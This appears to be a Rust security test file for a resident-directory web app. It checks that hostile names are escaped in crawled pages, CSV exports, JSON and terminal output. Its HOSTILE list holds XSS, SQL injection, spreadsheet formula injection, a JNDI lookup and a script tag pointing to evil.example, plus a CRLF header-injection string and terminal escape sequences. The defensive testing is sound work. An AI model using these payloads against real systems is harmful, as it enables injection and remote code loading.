//! Names that attack whoever shows them: in every page that a link leads to, in
//! the CSV export and in JSON.

use std::collections::{BTreeMap, BTreeSet};

use reqwest::Method;
use serde_json::Value;

use super::tally;
use crate::{
    console::{Caller, Client, Console, operator},
    harness::{Output, Row, Site, person},
};

const HOSTILE: [&str; 16] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(2)>",
    "' onmouseover='alert(3)",
    "\" autofocus onfocus=\"alert(4)",
    "</title></main><script src=//evil.example>",
    "'; DROP TABLE accounts; --",
    "' OR '1'='1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1\" & calc",
    "{{ 7 * 7 }}<b>{% raw %}",
    "&lt;b&gt;<b>",
    "a\u{202e}nimda\u{2066}<i>",
    "%00%0d%0aSet-Cookie:%20a=b<u>",
    "${jndi:ldap://evil.example/'a'}",
    "javascript:alert('5')",
];

/// Words that a program may take for nothing.
const LIKE_NOTHING: [&str; 8] =
    ["Null", "None", "undefined", "NaN", "nil", "True", "Infinity", "Nul"];

/// Residents with a hostile value in each field, of which some open alerts.
fn rows() -> Vec<Row> {
    let mut rows = Vec::new();
    for (n, word) in HOSTILE.iter().enumerate() {
        let row = |field: usize| {
            Row::new(&format!("h{n}-{field}"), "Ana Ruiz", "101")
                .email(&format!("h{n}f{field}@example.com"))
        };
        rows.push(row(0).with("first_name", word));
        rows.push(row(1).with("last_name", word));
        rows.push(row(2).unit(word).with("building", word));
        rows.push(row(3).id(&format!("{word}{n}")));
        // An unknown status, an address that is none, an address of two people.
        rows.push(row(4).status(word).with("first_name", word));
        rows.push(row(5).email(word).with("first_name", word));
        let two = format!("two{n}@example.com");
        rows.push(row(6).email(&two).with("first_name", word).with("household_id", word));
        rows.push(row(7).email(&two).with("last_name", word).with("phone", word));
        // Somebody of the directory has another name.
        rows.push(row(8).email(&format!("known{n}@example.com")).with("last_name", word));
    }
    for (n, word) in LIKE_NOTHING.iter().enumerate() {
        let row = Row::new(&format!("n{n}"), "Ana Ruiz", word);
        rows.push(row.with("last_name", word).email(&format!("nothing{n}@example.com")));
    }
    let long = "x".repeat(10_000);
    rows.push(Row::new("long", "Ana Ruiz", "1").with("last_name", &long).email("l@example.com"));
    rows
}

/// A directory that knows some of the residents under hostile names, and the
/// rows of its feed.
fn town() -> (Site, Vec<Row>) {
    let site = Site::new().without_limits();
    let mut people = csv::Writer::from_path(site.path("people.csv")).unwrap();
    people.write_record(["email", "first_name", "last_name", "unit"]).unwrap();
    for (n, word) in HOSTILE.iter().enumerate() {
        let email = format!("known{n}@example.com");
        people.write_record([email.as_str(), word, "Keller", word]).unwrap();
    }
    people.flush().unwrap();
    let file = site.path("people.csv").display().to_string();
    let imported = site.run(&["people", "import", &file]);
    assert!([0, 1].contains(&imported.code), "{}", imported.stderr);
    let rows = rows();
    site.feed(&rows);
    site.run(&["sync"]).exits(0);
    (site, rows)
}

/// The hostile words that are in a page as they are, instead of as text.
fn raw(page: &str) -> Vec<&'static str> {
    let is_markup = |word: &&str| word.contains(['<', '>', '"', '\'']);
    HOSTILE.into_iter().filter(is_markup).filter(|word| page.contains(word)).collect()
}

/// A link's address as the browser reads it.
fn address(link: &str) -> String {
    let link = link.split('#').next().unwrap();
    [
        ("&#38;", "&"),
        ("&amp;", "&"),
        ("&#34;", "\""),
        ("&#39;", "'"),
        ("&#60;", "<"),
        ("&#62;", ">"),
    ]
    .iter()
    .fold(link.to_owned(), |it, (from, to)| it.replace(from, to))
}

/// Every page that links lead to, by address; at most a few of one kind.
async fn crawl(client: &Client, start: &[String]) -> BTreeMap<String, String> {
    let mut pages = BTreeMap::new();
    let mut known: BTreeSet<String> = start.iter().cloned().collect();
    let mut open: Vec<String> = start.to_vec();
    while let Some(path) = open.pop() {
        let answer = client.get(&path).await;
        assert!(answer.status < 500, "{path}: {}", answer.body);
        if !answer.header("content-type").starts_with("text/html") {
            continue;
        }
        assert!(answer.header("content-security-policy").contains("default-src 'none'"), "{path}");
        for link in answer.body.split("href=\"").skip(1) {
            let link = address(link.split('"').next().unwrap());
            if link.starts_with("/assets/") || link.is_empty() {
                continue;
            }
            let relative = link.starts_with('?');
            let link =
                if relative { format!("{}{link}", path.split('?').next().unwrap()) } else { link };
            assert!(link.starts_with('/') && !link.starts_with("//"), "{path} leads to {link}");
            if known.len() < 280 && known.insert(link.clone()) {
                open.push(link);
            }
        }
        pages.insert(path, answer.body);
    }
    pages
}

#[tokio::test]
async fn no_page_lets_a_name_out() {
    let (site, rows) = town();
    operator(&site.toml(), "<b>ana</b>", "admin", &[]);
    let console = Console::of(&site);
    let ana = console.signed_in("<b>ana</b>").await;
    let mut start: Vec<String> = vec!["/".into(), "/p/maple-court".into(), "/account".into()];
    let alerts = site.alerts();
    let alerts = alerts.as_array().unwrap();
    assert!(alerts.len() > HOSTILE.len() * 2, "{} alerts", alerts.len());
    for alert in alerts {
        let id = alert["id"].as_str().unwrap();
        start.push(format!("/p/maple-court/alerts/{id}"));
        let answer = alert["resolutions"][0].as_str().unwrap();
        let words = format!("id={id}&resolution={answer}&reason=%3Cscript%3Ealert(1)");
        start.push(format!("/p/maple-court/alerts/answer?{words}"));
    }
    for word in HOSTILE {
        let word: String = word.bytes().map(|byte| format!("%{byte:02X}")).collect();
        for path in ["people?search=", "people?unit=", "alerts?kind=", "runs?after=", "why/"] {
            start.push(format!("/p/maple-court/{path}{word}"));
        }
        start.push(format!("/p/{word}"));
        start.push(format!("/sign-in?next={word}"));
    }
    let pages = crawl(&ana, &start).await;
    assert!(pages.len() > 150, "{} pages", pages.len());
    let words: usize = pages.values().map(|page| page.matches("&#60;script").count()).sum();
    assert!(words > 20, "the names are shown as text {words} times");
    for (path, page) in &pages {
        assert_eq!(raw(page), [""; 0], "{path}");
        let page = page.to_lowercase();
        for tag in ["<script>", "<img", "<b>ana", "<i>", "<u>", "href=\"javascript:"] {
            assert!(!page.contains(tag), "{path} has {tag}");
        }
    }
    tally(pages.len(), "pages crawled with hostile names");
    nothing_runs_in_a_spreadsheet(&ana.page("/p/maple-court/people.csv").await.body);
    nothing_runs_in_a_spreadsheet(&site.run(&["people", "export"]).exits(0).stdout);
    // Nothing was lost, and nothing was taken for nothing.
    let again = site.json(&["sync"]);
    assert_eq!(again["changes"], Value::Array(Vec::new()));
    let people = site.people();
    for (n, word) in LIKE_NOTHING.iter().enumerate() {
        let somebody = person(&people, &format!("nothing{n}@example.com"));
        assert_eq!(somebody["last_name"], *word);
        assert_eq!(somebody["residencies"][0]["unit"], *word);
    }
    as_json(&site, &console, &rows).await;
}

fn nothing_runs_in_a_spreadsheet(export: &str) {
    let mut table = csv::Reader::from_reader(export.as_bytes());
    let mut rows = 0;
    for row in table.records() {
        rows += 1;
        for cell in &row.unwrap() {
            let is_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            // A phone number is none.
            let is_number = cell.strip_prefix('+').is_some_and(|it| it.parse::<u64>().is_ok());
            assert!(!is_formula || is_number, "{cell}");
        }
    }
    assert!(rows > HOSTILE.len() * 4, "{rows} rows");
}

/// JSON contains the names as they are, and no browser takes it for a page.
async fn as_json(site: &Site, console: &Console, rows: &[Row]) {
    let caller = Caller::program(console, site, "<b>ana</b>");
    let answer = caller.call(Method::GET, "/properties/maple-court/people?limit=500", None).await;
    assert!(answer.header("content-type").starts_with("application/json"));
    assert_eq!(answer.header("x-content-type-options"), "nosniff");
    let people = caller.walk("/properties/maple-court/people", 50).await;
    for (n, word) in HOSTILE.iter().enumerate() {
        let shown = people.iter().find(|it| it["email"] == format!("h{n}f1@example.com"));
        let fed = rows.iter().find(|row| row.cell("email") == format!("h{n}f1@example.com"));
        let (shown, fed) = (shown.unwrap(), fed.unwrap().cell("last_name"));
        assert_eq!(fed, *word);
        let text = shown["last_name"].as_str().unwrap();
        assert!(text == *word || !text.contains(['\u{202e}', '\u{2066}']), "{text} for {word}");
    }
    for path in ["/properties/maple-court/alerts", "/properties/maple-court/runs"] {
        caller.walk(path, 50).await;
    }
}

/// A terminal acts on escape characters.
#[test]
fn no_name_commands_a_terminal() {
    let site = Site::new();
    let row = |id: &str, name: &str| {
        Row::new(id, "Ana Ruiz", "101").with("first_name", name).email(&format!("{id}@example.com"))
    };
    let names = ["\u{1b}[2J\u{1b}]0;owned\u{7}", "\u{9b}31m", "a\u{8}\u{8}b", "a\u{202e}b"];
    let rows: Vec<Row> =
        names.iter().enumerate().map(|(n, it)| row(&format!("t{n}"), it)).collect();
    site.feed(&rows);
    site.run(&["sync"]);
    for args in [
        &["people"][..],
        &["alerts"],
        &["runs"],
        &["explain", "t0"],
        &["plan"],
        &["people", "show", "t0@example.com"],
    ] {
        let Output { stdout, stderr, .. } = site.run(args);
        for text in [stdout, stderr] {
            let bad = text.chars().find(|it| (it.is_control() && *it != '\n') || *it == '\u{202e}');
            assert_eq!(bad, None, "{args:?}: {text:?}");
        }
    }
}
